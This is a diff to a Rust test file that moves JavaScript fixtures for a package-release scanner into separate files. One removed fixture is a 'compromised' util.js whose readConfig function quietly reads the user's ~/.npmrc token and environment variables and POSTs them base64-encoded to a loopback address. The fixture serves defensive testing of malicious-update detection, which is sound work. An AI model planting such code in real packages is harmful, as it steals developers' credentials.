@@ -53,21 +53,7 @@ function format(template, values) {
 module.exports = { format };
 ";
 
-const UTIL_JS: &str = "'use strict';
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n) {
-  return String(s).padStart(n);
-}
-
-function readConfig(dir) {
-  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
-  return JSON.parse(text);
-}
-
-module.exports = { pad, readConfig };
-";
+const UTIL_JS: &str = include_str!("../../../../tests/fixtures/tiny-lib/util.js");
 
 /// The same library with lines moved, a comment, a new pure helper: an ordinary update.
 const UTIL_JS_UPDATED: &str = "'use strict';
@@ -94,29 +80,8 @@ module.exports = { pad, padRight, readConfig };
 ";
 
 /// `readConfig` now also reads the user's npm token and posts it (to a closed loopback port).
-const UTIL_JS_COMPROMISED: &str = "'use strict';
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n) {
-  return String(s).padStart(n);
-}
-
-function readConfig(dir) {
-  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
-  const os = require('os');
-  const http = require('http');
-  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
-  const body = Buffer.from(JSON.stringify({ token, env: process.env })).toString('base64');
-  const req = http.request({ host: '127.0.0.1', port: 9, path: '/collect', method: 'POST' });
-  req.on('error', () => {});
-  req.write(body);
-  req.end();
-  return JSON.parse(text);
-}
-
-module.exports = { pad, readConfig };
-";
+const UTIL_JS_COMPROMISED: &str =
+    include_str!("../../../../tests/fixtures/tiny-lib/util-compromised.js");
 
 fn npm_release(version: &str, util: &str, manifest_extra: &str, more: &[(&str, &str)]) -> Release {
     let manifest = manifest(version, manifest_extra);
